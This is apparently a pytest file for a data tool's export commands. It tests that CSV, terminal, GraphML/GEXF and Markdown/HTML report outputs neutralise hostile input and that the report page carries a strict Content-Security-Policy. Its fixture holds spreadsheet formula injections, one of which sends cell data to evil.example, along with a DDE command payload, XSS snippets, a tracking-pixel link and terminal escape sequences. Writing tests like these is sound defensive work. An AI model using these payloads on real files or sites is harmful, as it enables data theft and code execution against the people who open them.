"""Outputs that must not attack their reader: formulas in CSV cells, escape
sequences in terminal tables, control characters in GraphML/GEXF, raw HTML in
report.md, and the report page's Content-Security-Policy."""

from __future__ import annotations

import csv
import io
import re

import networkx as nx
import pytest
from click.testing import CliRunner

from coopgraph.cli import cli
from coopgraph.export import graph_text
from coopgraph.reports.tabular import render
from tinydata import TINY, tables_with, write_tables

HOSTILE_HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


@pytest.fixture
def hostile_dir(tmp_path):
    cites = [dict(c) for c in TINY["cites"]]
    cites[0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    cites[1]["name"] = HOSTILE_HTML + " ![pixel](http://evil.example/p.png)"
    cites[2]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return write_tables(tmp_path / "hostile", tables_with(cites=cites))


def test_csv_outputs_neutralise_formulas(hostile_dir):
    result = run("isolated", hostile_dir, "--format", "csv")
    assert result.exit_code == 0, result.output
    cells = [
        c
        for row in csv.reader(io.StringIO(result.output.lstrip("\ufeff")), delimiter=";")
        for c in row
    ]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert not any(c.startswith("-") and not re.fullmatch(r"-[\d.]+", c) for c in cells)


def test_csv_render_keeps_numbers_and_raw_on_request(monkeypatch):
    rows = [{"id": "=1+1", "lon": "-1.68", "n": 3}]
    assert render(rows, "csv") == "id,lon,n\n'=1+1,-1.68,3\n"
    monkeypatch.setenv("COOPGRAPH_CSV_RAW", "1")
    assert render(rows, "csv") == "id,lon,n\n=1+1,-1.68,3\n"


def test_terminal_tables_show_escape_sequences_instead_of_running_them():
    rows = [{"name": "Zoé\x1b[2J\x1b]0;pwned\x07", "n": 1}]
    text = render(rows, "table")
    assert "\x1b" not in text and "\x07" not in text
    assert "Zoé\\x1b[2J\\x1b]0;pwned\\x07" in text


def test_problem_lines_show_escape_sequences(tmp_path):
    actors = [dict(a) for a in TINY["actors"]]
    actors[0]["institution_id"] = "\x1b[31mred"
    result = run("validate", write_tables(tmp_path / "d", tables_with(actors=actors)))
    assert result.exit_code == 2
    assert "\x1b" not in result.output and "\\x1b[31mred" in result.output


@pytest.mark.parametrize("fmt,read", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_control_characters_keep_graph_exports_readable(tmp_path, fmt, read):
    G = nx.Graph()
    for i, code in enumerate([*range(0, 9), 11, 12, *range(14, 32)]):
        name = f"nom{chr(code)}{i}"
        G.add_node(name, name=name, region="r\x0b")
        G.add_edge(name, "hub\x00", meetings=["m\x01", "m2"])
    path = tmp_path / f"g.{fmt}"
    path.write_text(graph_text(G, fmt), encoding="utf-8")
    back = read(path)
    assert back.number_of_nodes() == G.number_of_nodes()
    assert back.number_of_edges() == G.number_of_edges()
    assert "nom\ufffd0" in back.nodes and back.nodes["nom\ufffd0"]["name"] == "nom\ufffd0"


def test_report_markdown_escapes_raw_html_and_links(hostile_dir, tmp_path):
    out = tmp_path / "out"
    result = run("report", hostile_dir, "--out", out)
    assert result.exit_code == 0, result.output
    md = (out / "report.md").read_text(encoding="utf-8")
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "&lt;img src=x" in md and "&lt;script&gt;" in md
    assert "<img" not in md and "<script" not in md
    assert "![pixel](" not in md and "!\\[pixel\\](" in md
    assert "<img" not in html and "<script" not in html


def test_report_html_has_a_content_security_policy(tiny_dir, tmp_path):
    assert run("report", tiny_dir, "--out", tmp_path / "o").exit_code == 0
    html = (tmp_path / "o" / "report.html").read_text(encoding="utf-8")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert policy, html[:500]
    directives = dict(d.strip().split(" ", 1) for d in policy.group(1).split(";"))
    assert directives["default-src"] == "'none'"
    assert "script-src" not in directives  # no script at all
